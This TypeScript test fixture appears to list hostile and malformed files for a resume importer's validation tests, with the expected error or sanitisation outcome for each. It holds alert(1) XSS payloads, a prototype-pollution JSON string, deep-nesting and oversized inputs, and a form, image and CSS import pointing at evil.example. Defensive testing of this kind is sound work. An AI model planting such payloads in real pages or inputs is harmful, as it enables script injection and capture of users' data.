import { json, rich, cut, noise, type HostileFile } from './hostile-file.ts';
import { hostilePackages } from './hostile-packages.ts';
import { utf8 } from './sample-files.ts';

const bytes = (...values: readonly number[]): Uint8Array => Uint8Array.from(values);

const polluting =
  '{"fields":{"__proto__":{"polluted":1},"basicInfo":{"constructor":{"prototype":{"polluted":1}}}}}';

export const hostileFiles: readonly HostileFile[] = [
  { what: 'nothing', name: 'a.json', make: () => bytes(), fate: /空文件/ },
  { what: 'blanks', name: 'a.txt', make: () => utf8('  \n\t\n'), fate: /没有文字/ },
  { what: 'JSON cut short', name: 'a.json', make: () => cut(rich('x'), 0.7), fate: /JSON 解析失败/ },
  {
    what: 'JSON with trailing commas',
    name: 'a.json',
    make: () => utf8('{"fields":{},}'),
    fate: /JSON 解析失败/,
  },
  { what: 'JavaScript named json', name: 'a.json', make: () => utf8('alert(1)'), fate: /JSON 解析失败/ },
  {
    what: 'a web page named json',
    name: 'a.json',
    make: () => utf8('<html><script>alert(1)</script>'),
    fate: /JSON 解析失败/,
  },
  { what: 'noise named json', name: 'a.json', make: () => noise(5_000), fate: /JSON 解析失败/ },
  { what: 'a JSON list', name: 'a.json', make: () => utf8('[1,2,3]'), fate: /结构不符合/ },
  { what: 'a JSON number', name: 'a.json', make: () => utf8('42'), fate: /结构不符合/ },
  { what: 'null', name: 'a.json', make: () => utf8('null'), fate: /结构不符合/ },
  {
    what: 'JSON of something else',
    name: 'a.json',
    make: () => json({ dependencies: { react: '19' } }),
    fate: /结构不符合/,
  },
  {
    what: 'sections that are null',
    name: 'a.json',
    make: () => json({ fields: null, styles: null }),
    fate: /结构不符合/,
  },
  {
    what: 'nesting of 200,000 lists',
    name: 'a.json',
    make: () => utf8('['.repeat(200_000) + ']'.repeat(200_000)),
    fate: /结构不符合/,
  },
  {
    what: 'nesting of 200,000 lists within the fields',
    name: 'a.json',
    make: () => utf8(`{"fields":{"workExperiences":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`),
    fate: 'warned',
  },
  {
    what: 'nesting of 100,000 objects',
    name: 'a.json',
    make: () => utf8(`{"styles":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}`),
    fate: 'warned',
  },
  { what: 'names that reach the prototype', name: 'a.json', make: () => utf8(polluting), fate: 'warned' },
  {
    what: 'a script in rich text',
    name: 'a.json',
    make: () => rich('<script>alert(1)</script>好'),
    fate: 'warned',
  },
  {
    what: 'an event handler in rich text',
    name: 'a.json',
    make: () => rich('<img src=x onerror="alert(1)">'),
    fate: 'warned',
  },
  {
    what: 'an event handler in capitals',
    name: 'a.json',
    make: () => rich('<P ONCLICK=alert(1)>x</P>'),
    fate: 'warned',
  },
  {
    what: 'a script address',
    name: 'a.json',
    make: () => rich('<a href="javascript:alert(1)">x</a>'),
    fate: 'warned',
  },
  {
    what: 'a frame',
    name: 'a.json',
    make: () => rich('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    fate: 'warned',
  },
  {
    what: 'an SVG that runs',
    name: 'a.json',
    make: () => rich('<svg><animate onbegin=alert(1)></svg>'),
    fate: 'warned',
  },
  {
    what: 'a form',
    name: 'a.json',
    make: () => rich('<form action="https://evil.example"><input name=p></form>'),
    fate: 'warned',
  },
  {
    what: 'pictures from elsewhere',
    name: 'a.json',
    make: () =>
      json({
        fields: { imgUpload: [{ id: 'avatar', type: 'avatar', value: 'https://evil.example/x.png' }] },
      }),
    fate: 'harmless',
  },
  {
    what: 'styles that fetch',
    name: 'a.json',
    make: () =>
      json({ styles: { customCSS: '@import url(https://evil.example/x.css); body{position:fixed}' } }),
    fate: 'harmless',
  },
  {
    what: 'sections of the wrong types',
    name: 'a.json',
    make: () => json({ fields: 7, modules: 'x', styles: [] }),
    fate: 'harmless',
  },
  {
    what: '300,000 entries',
    name: 'a.json',
    make: () => utf8(`{"fields":{"workExperiences":[${'{},'.repeat(300_000)}{}]}}`),
    fate: /300001 条经历/,
  },
  {
    what: '300,000 values',
    name: 'a.json',
    make: () => utf8(`{"fields":{"more":[${'1,'.repeat(300_000)}1]}}`),
    fate: 'warned',
  },
  {
    what: 'a JSON Resume of wrong types',
    name: 'a.json',
    make: () => json({ basics: { name: { a: 1 }, profiles: 'x' }, work: [null, 3, { name: ['x'] }] }),
    // Nothing fits a field: all of it is unrecognised lines.
    fate: 'harmless',
  },
  {
    what: 'a JSON Resume with a script',
    name: 'a.json',
    make: () =>
      json({
        basics: { name: '<script>alert(1)</script>', url: 'javascript:alert(1)' },
        work: [{ name: '甲', summary: '<img src=x onerror=alert(1)>' }],
      }),
    fate: 'harmless',
  },
  ...hostilePackages,
  { what: 'zeros', name: 'a.txt', make: () => new Uint8Array(10_000), fate: /认不出|没有文字/ },
  { what: '5 MB of text', name: 'a.txt', make: () => utf8('简'.repeat(1_700_000)), fate: /不像一份简历/ },
  {
    what: 'one line of a million letters',
    name: 'a.txt',
    make: () => utf8('a'.repeat(1_000_000)),
    fate: 'harmless',
  },
  {
    what: '100,000 headings',
    name: 'a.md',
    make: () => utf8('# 工作经历\n'.repeat(100_000)),
    fate: /没有在文件里认出/,
  },
  {
    what: 'marks that never close',
    name: 'a.md',
    make: () => utf8(`# 张三\n${'**_['.repeat(20_000)}`),
    fate: 'harmless',
  },
  {
    what: 'Markdown with a script and a script address',
    name: 'a.md',
    make: () => utf8('# 张三\n## 自我评价\n<script>alert(1)</script>\n[点我](javascript:alert(1))'),
    fate: 'harmless',
  },
  {
    what: 'a web page with scripts and tables a thousand deep',
    name: 'a.html',
    make: () =>
      utf8(`<body>张三<script>alert(1)</script>${'<table><tr><td>'.repeat(1_000)}13812345678</body>`),
    fate: 'harmless',
  },
];
